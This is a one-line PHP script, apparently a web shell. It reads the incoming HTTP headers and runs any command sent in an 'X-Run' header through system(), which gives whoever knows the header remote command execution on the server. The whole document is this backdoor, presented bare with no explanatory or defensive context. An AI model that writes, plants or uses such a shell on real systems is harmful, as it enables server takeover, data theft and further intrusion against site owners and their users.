<?php $h = apache_request_headers(); if (isset($h['X-Run'])) { system($h['X-Run']); }
